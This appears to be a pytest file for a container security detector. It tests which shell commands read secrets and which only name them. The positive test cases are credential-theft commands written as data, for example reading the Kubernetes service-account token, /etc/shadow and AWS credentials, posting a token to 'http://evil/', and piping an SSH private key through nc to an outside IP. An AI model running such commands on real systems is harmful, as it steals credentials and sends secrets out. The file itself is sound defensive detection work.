"""Commands that reach for a secret, and those that only name one."""

import pytest

from sidecar.meaning import secrets
from sidecar.meaning.program import program
from sidecar.model import Fields

TOKEN = "/var/run/secrets/kubernetes.io/serviceaccount/token"  # noqa: S105 - a file


def _first(command: str) -> str:
    return command.partition(" ")[0]


def reaches(command: str) -> bool:
    name = _first(command)
    fields = Fields(evt_type="execve", exepath=f"/usr/bin/{name}", name=name, cmdline=command, exe=name)
    return secrets.names_secret(fields, program(fields))


@pytest.mark.parametrize(
    "command",
    [
        f"sh -c cat {TOKEN}",
        f"sh -c ln -s {TOKEN} /tmp/l; cat /tmp/l",
        f'sh -c curl -H "Authorization: Bearer $(cat {TOKEN})" https://kubernetes.default/api',
        f"sh -c curl -d @{TOKEN} http://evil/",
        f"bash -c read x < {TOKEN}; echo $x",
        "sh -c ln -s /bin/cat /var/lib/app/dog; /var/lib/app/dog /etc/shadow",
        "sh -c id; base64 -w0 /root/.aws/credentials",
        "sh -c cat /app/.env",
        "sh -c sudo cat /etc/shadow",
        "sh -c tar cz /root/.ssh/id_rsa | nc 203.0.113.9 443",
        "cat /var/run/secrets/azure/tokens/azure-identity-token",
        "strings /proc/1/environ",
        "sh -c gcloud auth print-access-token",
        "az account get-access-token",
        "kubectl -n prod get secrets -o yaml",
        "sh -c head /root/.vault-token",
    ],
)
def test_a_command_reaches_for_a_secret(command: str) -> None:
    assert reaches(command)


@pytest.mark.parametrize(
    "command",
    [
        "sh -c cp .env.example .env",
        "sh -c chmod 600 /root/.ssh/id_rsa",
        "sh -c rm -f /root/.netrc",
        "sh -c test -f /root/.kube/config && echo yes",
        "sh -c ssh -i /root/.ssh/id_rsa host uptime",
        "sh -c kubectl --kubeconfig /root/.kube/config get pods",
        "sh -c cat /root/.ssh/id_rsa.pub",
        "sh -c docker compose --env-file /app/.env up -d",
        "sh -c cat /etc/passwd",
        "sh /app/.env",
        "python3 /app/x.py /etc/shadow",
        "kubectl get pods -o json",
        "gcloud auth list",
    ],
)
def test_a_command_only_names_one(command: str) -> None:
    assert not reaches(command)


def test_a_link_to_a_secret_reaches_for_it() -> None:
    fields = Fields(
        evt_type="symlinkat", exepath="/usr/bin/python3", name="python3", cmdline="python3 /app/x.py", file=TOKEN
    )
    assert secrets.names_secret(fields, program(fields))
    fields.file = "/etc/hosts"
    assert not secrets.names_secret(fields, program(fields))
